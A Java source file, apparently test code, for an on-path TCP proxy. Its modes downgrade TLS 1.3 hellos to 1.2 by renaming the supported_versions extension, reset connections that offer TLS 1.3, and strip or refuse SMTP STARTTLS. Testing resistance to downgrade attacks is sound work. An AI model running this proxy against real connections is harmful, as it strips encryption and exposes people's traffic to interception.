import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * A TCP proxy that plays the attacker on the path: it edits what protects a connection and passes on the rest.
 *
 * <p>Test code, run as {@code java Meddler.java MODE LISTEN-ADDRESS:PORT TARGET-ADDRESS:PORT}. One thread per direction
 * of a connection; each edit looks at one read, which holds a whole hello or command line on the links that
 * {@code make.sh} lays.
 */
public final class Meddler {

    private enum Mode {
        /** Renames the client's supported_versions extension, so that the server sees a hello of TLS 1.2 (RFC 9846). */
        HIDE_TLS13,
        /** Resets connections whose hello offers TLS 1.3 and lets all others through, as a fallback attack does. */
        RESET_TLS13,
        /** Overwrites the offer of STARTTLS in the answer to EHLO, as some firewalls do. */
        HIDE_STARTTLS,
        /** Leaves the offer, but answers the command itself, with the refusal of RFC 3207. */
        REFUSE_STARTTLS
    }

    private static final int SUPPORTED_VERSIONS = 0x002B;
    private static final int UNASSIGNED_EXTENSION = 0xFE2B;
    private static final int TLS13 = 0x0304;

    private Meddler() {}

    public static void main(String[] args) throws IOException {
        Mode mode = Mode.valueOf(args[0].toUpperCase().replace('-', '_'));
        InetSocketAddress target = address(args[2]);
        try (ServerSocket listener = new ServerSocket()) {
            listener.setReuseAddress(true);
            listener.bind(address(args[1]));
            while (true) {
                Socket client = listener.accept();
                Socket server = new Socket(target.getAddress(), target.getPort());
                client.setTcpNoDelay(true);
                server.setTcpNoDelay(true);
                new Thread(() -> pump(client, server, client, mode, true)).start();
                new Thread(() -> pump(server, client, client, mode, false)).start();
            }
        }
    }

    private static InetSocketAddress address(String text) throws IOException {
        int colon = text.lastIndexOf(':');
        return new InetSocketAddress(
                InetAddress.getByName(text.substring(0, colon)), Integer.parseInt(text.substring(colon + 1)));
    }

    private static void pump(Socket from, Socket to, Socket client, Mode mode, boolean fromClient) {
        byte[] buffer = new byte[65_536];
        try {
            InputStream in = from.getInputStream();
            OutputStream out = to.getOutputStream();
            for (int length = in.read(buffer); length >= 0; length = in.read(buffer)) {
                if (fromClient && mode == Mode.RESET_TLS13 && offersTls13(buffer, length)) {
                    // With a linger time of zero, closing sends RST (RFC 9293, 3.10.4).
                    client.setSoLinger(true, 0);
                    client.close();
                    to.close();
                    return;
                }
                if (fromClient && mode == Mode.REFUSE_STARTTLS && isStarttls(buffer, length)) {
                    client.getOutputStream()
                            .write("454 4.7.0 TLS not available due to temporary reason\r\n".getBytes(StandardCharsets.US_ASCII));
                    continue;
                }
                if (fromClient && mode == Mode.HIDE_TLS13) {
                    hideTls13(buffer, length);
                }
                if (!fromClient && mode == Mode.HIDE_STARTTLS) {
                    hideStarttls(buffer, length);
                }
                out.write(buffer, 0, length);
            }
            to.shutdownOutput();
        } catch (IOException e) {
            // Either end may hang up at any time; then the other one is told so too.
            closeBoth(from, to);
        }
    }

    private static void closeBoth(Socket one, Socket other) {
        for (Socket socket : new Socket[] {one, other}) {
            try {
                socket.close();
            } catch (IOException e) {
                System.err.println("closing " + socket + ": " + e.getMessage());
            }
        }
    }

    private static boolean isStarttls(byte[] bytes, int length) {
        return new String(bytes, 0, length, StandardCharsets.US_ASCII).trim().equalsIgnoreCase("STARTTLS");
    }

    private static void hideStarttls(byte[] bytes, int length) {
        String text = new String(bytes, 0, length, StandardCharsets.ISO_8859_1).replace("STARTTLS", "XXXXXXXA");
        System.arraycopy(text.getBytes(StandardCharsets.ISO_8859_1), 0, bytes, 0, length);
    }

    private static void hideTls13(byte[] bytes, int length) {
        int extension = supportedVersions(bytes, length);
        if (extension >= 0) {
            bytes[extension] = (byte) (UNASSIGNED_EXTENSION >> 8);
            bytes[extension + 1] = (byte) UNASSIGNED_EXTENSION;
        }
    }

    private static boolean offersTls13(byte[] bytes, int length) {
        int extension = supportedVersions(bytes, length);
        if (extension < 0) {
            return false;
        }
        int versions = bytes[extension + 4] & 0xFF;
        for (int at = extension + 5; at < extension + 5 + versions; at += 2) {
            if (uint16(bytes, at) == TLS13) {
                return true;
            }
        }
        return false;
    }

    /** Where the supported_versions extension of a ClientHello begins (RFC 8446, 4.1.2), or -1. */
    private static int supportedVersions(byte[] bytes, int length) {
        if (length < 44 || bytes[0] != 22 || bytes[5] != 1) {
            return -1;
        }
        int at = 5 + 4 + 2 + 32;
        at += 1 + (bytes[at] & 0xFF);
        at += 2 + uint16(bytes, at);
        at += 1 + (bytes[at] & 0xFF);
        int end = Math.min(length, at + 2 + uint16(bytes, at));
        at += 2;
        while (at + 4 <= end) {
            if (uint16(bytes, at) == SUPPORTED_VERSIONS) {
                return at;
            }
            at += 4 + uint16(bytes, at + 2);
        }
        return -1;
    }

    private static int uint16(byte[] bytes, int at) {
        return (bytes[at] & 0xFF) << 8 | bytes[at + 1] & 0xFF;
    }
}
